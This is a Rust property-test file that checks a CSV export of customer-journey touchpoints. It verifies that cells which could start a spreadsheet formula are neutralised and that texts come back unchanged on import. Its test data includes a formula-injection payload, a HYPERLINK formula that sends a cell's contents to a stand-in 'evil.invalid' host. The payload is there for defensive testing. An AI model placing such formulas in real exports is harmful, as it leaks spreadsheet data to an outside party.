//! Texts through the CSV table and back, for arbitrary strings: no cell
//! of the export starts with a character that makes a spreadsheet run it
//! as a formula, and the import reads back exactly the text that was
//! exported (formula marks, whitespace at the ends, separators,
//! backslashes, line breaks).

use journey_analysis::Workspace;
use journey_export::csv::{render, FORMULA_TRIGGERS};
use journey_import::table::{self, Moment, Row, Target};
use proptest::prelude::*;
use std::path::Path;

/// A one-line string literal of the language holding exactly `s`.
fn literal(s: &str) -> String {
    journey_syntax::quote(s)
}

/// The texts a touchpoint row carries.
#[derive(Debug, Clone)]
struct Texts {
    phase_title: String,
    title: String,
    copy: Vec<String>,
    evidence: String,
    disclaimer: String,
    kpi_name: String,
    kpi_target: String,
    kpi_unit: String,
    moment: String,
    collects: String,
    description: String,
    reason: String,
}

fn source(t: &Texts) -> String {
    let copy: Vec<String> = t.copy.iter().map(|c| literal(c)).collect();
    format!(
        "phase p {} {{\n  touchpoint t {} {{\n    channel web online\n    says {}\n    evidence {}\n    disclaimer {}\n    kpi {} target {} unit {}\n    moment {}\n    collects {}\n    basis contract\n    description {}\n    allow J0413 {}\n  }}\n}}\n",
        literal(&t.phase_title),
        literal(&t.title),
        copy.join(", "),
        literal(&t.evidence),
        literal(&t.disclaimer),
        literal(&t.kpi_name),
        literal(&t.kpi_target),
        literal(&t.kpi_unit),
        literal(&t.moment),
        literal(&t.collects),
        literal(&t.description),
        literal(&t.reason),
    )
}

/// The CSV export of one file.
fn export(text: &str) -> String {
    let mut ws = Workspace::new();
    ws.set_file(
        Path::new("/nonexistent/t.journey").to_path_buf(),
        "t.journey".into(),
        text.to_string(),
    );
    let diagnostics = ws.diagnostics();
    let errors: Vec<_> = diagnostics
        .iter()
        .filter(|d| d.severity == journey_diagnostics::Severity::Error)
        .map(|d| format!("{}: {}", d.code, d.message))
        .collect();
    assert!(errors.is_empty(), "{errors:?}\n{text}");
    render(&journey_export::Document::build(&ws, &diagnostics))
}

/// Any text, with formula shapes, marks, separators and whitespace
/// often. Empty texts are no texts in the table; NUL is not allowed in
/// the language.
fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "[=+@'\\-\t\r\n ;:\\\\\"aä€]{1,8}",
        "[ \t\r\n\u{a0}\u{3000}]{1,3}",
        "[ \t]{0,2}[=+@'\\-]{1,3}[a-z(),\"&]{0,8}[ \t]{0,2}",
        Just("=HYPERLINK(\"http://evil.invalid/?d=\"&B2,\"Open\")".to_string()),
        Just("@SUM(1)".to_string()),
        Just("+1+1".to_string()),
        Just("-2+3".to_string()),
        Just("'".to_string()),
        Just("''=1".to_string()),
        Just("  two spaces around  ".to_string()),
    ]
    .prop_filter("a text", |s| !s.is_empty() && !s.contains('\0'))
}

fn texts() -> impl Strategy<Value = Texts> {
    (
        (text(), text(), prop::collection::vec(text(), 1..3), text()),
        (text(), text(), text(), text()),
        (text(), text(), text(), text()),
    )
        .prop_filter(
            "a moment note that is not a yes/no flag",
            |(_, _, (_, _, m, _))| {
                let m = m.trim();
                !m.eq_ignore_ascii_case("yes") && !m.eq_ignore_ascii_case("no")
            },
        )
        // A reason of only whitespace is no reason (J0604).
        .prop_filter("an allow with a reason", |(_, _, (_, _, _, reason))| {
            !reason.trim().is_empty()
        })
        .prop_filter("a KPI target that is text", |(_, (_, _, target, _), _)| {
            let t = target.trim();
            !t.is_empty() && t.parse::<f64>().is_err() && !t.chars().any(|c| c.is_ascii_digit())
        })
        .prop_map(
            |(
                (phase_title, title, copy, evidence),
                (disclaimer, kpi_name, kpi_target, kpi_unit),
                (moment, collects, description, reason),
            )| Texts {
                phase_title,
                title,
                copy,
                evidence,
                disclaimer,
                kpi_name,
                kpi_target,
                kpi_unit,
                moment,
                collects,
                description,
                reason,
            },
        )
}

fn the_row(csv: &str) -> Row {
    let table = table::read(csv);
    assert!(table.errors.is_empty(), "{:?}\n{csv}", table.errors);
    assert_eq!(table.rows.len(), 1);
    table.rows[0].clone()
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 200,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    #[test]
    fn every_text_comes_back_exactly_and_no_cell_is_a_formula(t in texts()) {
        let csv = export(&source(&t));
        let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(csv.as_bytes());
        for rec in reader.records() {
            for cell in rec.unwrap().iter() {
                prop_assert!(
                    !cell.starts_with(&FORMULA_TRIGGERS[..FORMULA_TRIGGERS.len() - 1]),
                    "a cell starts a formula: {:?}", cell
                );
            }
        }
        let row = the_row(&csv);
        prop_assert_eq!(row.phase_title.as_deref(), Some(t.phase_title.as_str()));
        prop_assert_eq!(row.title.as_deref(), Some(t.title.as_str()));
        prop_assert_eq!(&row.copy, &t.copy);
        prop_assert_eq!(&row.evidence, &vec![t.evidence.clone()]);
        prop_assert_eq!(&row.disclaimers, &vec![t.disclaimer.clone()]);
        prop_assert_eq!(row.kpis.len(), 1);
        prop_assert_eq!(&row.kpis[0].name, &t.kpi_name);
        prop_assert_eq!(&row.kpis[0].target, &Some(Target::Text(t.kpi_target.clone())));
        prop_assert_eq!(row.kpis[0].unit.as_deref(), Some(t.kpi_unit.as_str()));
        prop_assert_eq!(&row.moment, &Moment::Note(t.moment.clone()));
        prop_assert_eq!(&row.collects, &vec![t.collects.clone()]);
        prop_assert_eq!(row.description.as_deref(), Some(t.description.as_str()));
        prop_assert_eq!(row.allows.len(), 1);
        prop_assert_eq!(row.allows[0].reason.as_deref(), Some(t.reason.as_str()));
    }
}

proptest! {
    #![proptest_config(ProptestConfig {
        cases: 24,
        failure_persistence: None,
        ..ProptestConfig::default()
    })]

    /// The whole way: export → import → export gives the same table.
    #[test]
    fn export_import_export_is_the_identity(t in texts()) {
        let csv = export(&source(&t));
        let imported = journey_import::import_csv(&csv, "t.csv", Path::new("/nonexistent/out"))
            .map_err(|e| TestCaseError::fail(format!("{e:?}\n{csv}")))?;
        let mut ws = Workspace::new();
        for f in &imported.files {
            ws.set_file(Path::new("/nonexistent/out").join(&f.name), f.name.clone(), f.text.clone());
        }
        let again = render(&journey_export::Document::build(&ws, &ws.diagnostics()));
        prop_assert_eq!(again, csv);
    }
}

/// The cells of the issue: exported inert, imported as they were.
#[test]
fn formula_cells_of_the_reproducer_are_neutralised() {
    let t = Texts {
        phase_title: "Phase".into(),
        title: "=HYPERLINK(\"http://evil.invalid/?d=\"&B2,\"Open\")".into(),
        copy: vec!["@SUM(1)".into(), "+1+1".into()],
        evidence: "-1".into(),
        disclaimer: "'quoted'".into(),
        kpi_name: "=1+1".into(),
        kpi_target: "high".into(),
        kpi_unit: "\tunit".into(),
        moment: "\rnote".into(),
        collects: "Name".into(),
        description: "  two spaces around  ".into(),
        reason: "@reason".into(),
    };
    let csv = export(&source(&t));
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rec = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| {
        rec.get(headers.iter().position(|h| h == name).unwrap())
            .unwrap()
    };
    assert_eq!(
        cell("touchpoint_title"),
        "'=HYPERLINK(\"http://evil.invalid/?d=\"&B2,\"Open\")"
    );
    assert_eq!(cell("copy"), "'@SUM(1); +1+1");
    assert_eq!(cell("evidence"), "'-1");
    assert_eq!(cell("disclaimers"), "''quoted'");
    assert_eq!(cell("kpis"), "'=1+1:high:\\\tunit");
    assert_eq!(cell("moment"), "'\rnote");
    assert_eq!(cell("description"), "  two spaces around  ");
    assert_eq!(cell("allows"), "J0413:@reason");
    let row = the_row(&csv);
    assert_eq!(row.title.as_deref(), Some(t.title.as_str()));
    assert_eq!(row.copy, t.copy);
    assert_eq!(row.evidence, std::slice::from_ref(&t.evidence));
    assert_eq!(row.disclaimers, std::slice::from_ref(&t.disclaimer));
    assert_eq!(row.kpis[0].name, t.kpi_name);
    assert_eq!(row.kpis[0].unit.as_deref(), Some("\tunit"));
    assert_eq!(row.moment, Moment::Note("\rnote".into()));
    assert_eq!(row.description.as_deref(), Some(t.description.as_str()));
}

/// Whitespace at the ends of list items and KPI parts is text, not the
/// space after a separator.
#[test]
fn texts_of_whitespace_only_survive() {
    let ws = |s: &str| s.to_string();
    let t = Texts {
        phase_title: ws(" "),
        title: ws("\t"),
        copy: vec![ws(" "), ws("\n")],
        evidence: ws("\u{a0}"),
        disclaimer: ws("\r\n"),
        kpi_name: ws(" "),
        kpi_target: ws("  "),
        kpi_unit: ws("\t"),
        moment: ws("\t"),
        collects: ws(" "),
        description: ws("\n\n"),
        reason: ws(" why "),
    };
    let row = the_row(&export(&source(&t)));
    assert_eq!(row.phase_title.as_deref(), Some(" "));
    assert_eq!(row.title.as_deref(), Some("\t"));
    assert_eq!(row.copy, t.copy);
    assert_eq!(row.evidence, ["\u{a0}"]);
    assert_eq!(row.disclaimers, ["\r\n"]);
    assert_eq!(row.kpis[0].name, " ");
    assert_eq!(row.kpis[0].target, Some(Target::Text("  ".into())));
    assert_eq!(row.kpis[0].unit.as_deref(), Some("\t"));
    assert_eq!(row.moment, Moment::Note("\t".into()));
    assert_eq!(row.collects, [" "]);
    assert_eq!(row.description.as_deref(), Some("\n\n"));
    assert_eq!(row.allows[0].reason.as_deref(), Some(" why "));
}

#[test]
fn whitespace_at_the_ends_of_items_survives() {
    let t = Texts {
        phase_title: " Phase ".into(),
        title: " Title".into(),
        copy: vec!["  leading".into(), "trailing  ".into(), " ".into()],
        evidence: "\tindented".into(),
        disclaimer: "ends with a newline\n".into(),
        kpi_name: " name ".into(),
        kpi_target: " high ".into(),
        kpi_unit: " % ".into(),
        moment: " note ".into(),
        collects: " Name ".into(),
        description: "\n  indented\n".into(),
        reason: " why ".into(),
    };
    let csv = export(&source(&t));
    let row = the_row(&csv);
    assert_eq!(row.phase_title.as_deref(), Some(" Phase "));
    assert_eq!(row.title.as_deref(), Some(" Title"));
    assert_eq!(row.copy, t.copy);
    assert_eq!(row.evidence, ["\tindented"]);
    assert_eq!(row.disclaimers, ["ends with a newline\n"]);
    assert_eq!(row.kpis[0].name, " name ");
    assert_eq!(row.kpis[0].target, Some(Target::Text(" high ".into())));
    assert_eq!(row.kpis[0].unit.as_deref(), Some(" % "));
    assert_eq!(row.moment, Moment::Note(" note ".into()));
    assert_eq!(row.collects, [" Name "]);
    assert_eq!(row.description.as_deref(), Some("\n  indented\n"));
    assert_eq!(row.allows[0].reason.as_deref(), Some(" why "));
}
